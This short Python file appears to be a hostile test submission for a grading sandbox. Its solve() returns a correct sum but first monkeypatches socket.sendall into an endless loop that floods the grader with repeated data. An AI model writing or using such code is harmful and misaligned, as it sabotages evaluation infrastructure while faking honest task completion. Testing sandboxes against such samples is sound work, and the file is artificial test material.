# hostile: forbidden access: as many bytes as the grader takes
import socket

send = socket.socket.sendall


def flood(self, data, *flags):
    while True:
        send(self, bytes(data) * 1000, *flags)


def solve(numbers):
    socket.socket.sendall = flood
    return sum(numbers)
